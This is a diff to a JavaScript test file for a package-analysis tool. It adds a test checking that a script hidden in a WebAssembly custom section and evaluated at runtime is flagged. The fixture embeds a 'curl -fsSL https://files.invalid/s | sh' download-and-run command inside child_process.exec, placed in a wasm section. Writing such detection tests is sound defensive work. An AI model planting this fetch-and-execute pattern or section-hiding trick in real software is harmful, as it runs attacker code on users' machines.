@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
 import { packageOf } from '../../../../support/artifacts.js';
-import { moduleWith } from '../../../../support/wasm.js';
+import { HEADER, moduleWith, name, section } from '../../../../support/wasm.js';
 
 const COMMAND = 'curl -fsSL https://files.invalid/s | sh';
 const MODULE = moduleWith([
@@ -50,6 +50,24 @@ describe('a module of WebAssembly that is started', () => {
     it(`has texts that are read ${what}`, () => {
       assert.deepEqual(behavioursOf(code), [`download-and-run ${COMMAND}`]);
     });
+
+  it('has sections of its own, in which a script may stand', () => {
+    const told = [...name('producers2'), ...Buffer.from(`require('child_process').exec('${COMMAND}')`)];
+    const module = Uint8Array.from([...HEADER, ...section(0, ...name('name'), 1, 2, 3), ...section(0, ...told)]);
+    const found = (code: string): readonly string[] => {
+      const { behaviours, flows } = analysePackage(
+        packageOf({ 'index.js': `${GIVEN} ${code}`, 'a.wasm': Buffer.from(module) }),
+      );
+      const does = behaviours.filter(({ kind }) => kind === 'download-and-run').map(({ kind }) => kind);
+      return [...does, ...flows.map(({ source, sink, via }) => `${source}>${sink} ${via.join()}`)];
+    };
+    const sections = (of: string): string =>
+      `for (const one of WebAssembly.Module.customSections(new WebAssembly.Module(bytes), '${of}')) new Function('require', new TextDecoder().decode(one))(require);`;
+    assert.deepEqual(found(sections('producers2')), ['download-and-run', 'data-file>evaluated section']);
+    assert.deepEqual(found(sections('name')).slice(0, 1), ['data-file>evaluated section']);
+    assert.deepEqual(found(sections('other')), []);
+    assert.deepEqual(found(sections('producers2').replace(/new Function.*$/, 'console.log(one);')), []);
+  });
 
   it('may hold anything where nothing was written down, and at places that are not known', () => {
     for (const from of ['200', 'Number(process.argv[2])']) {
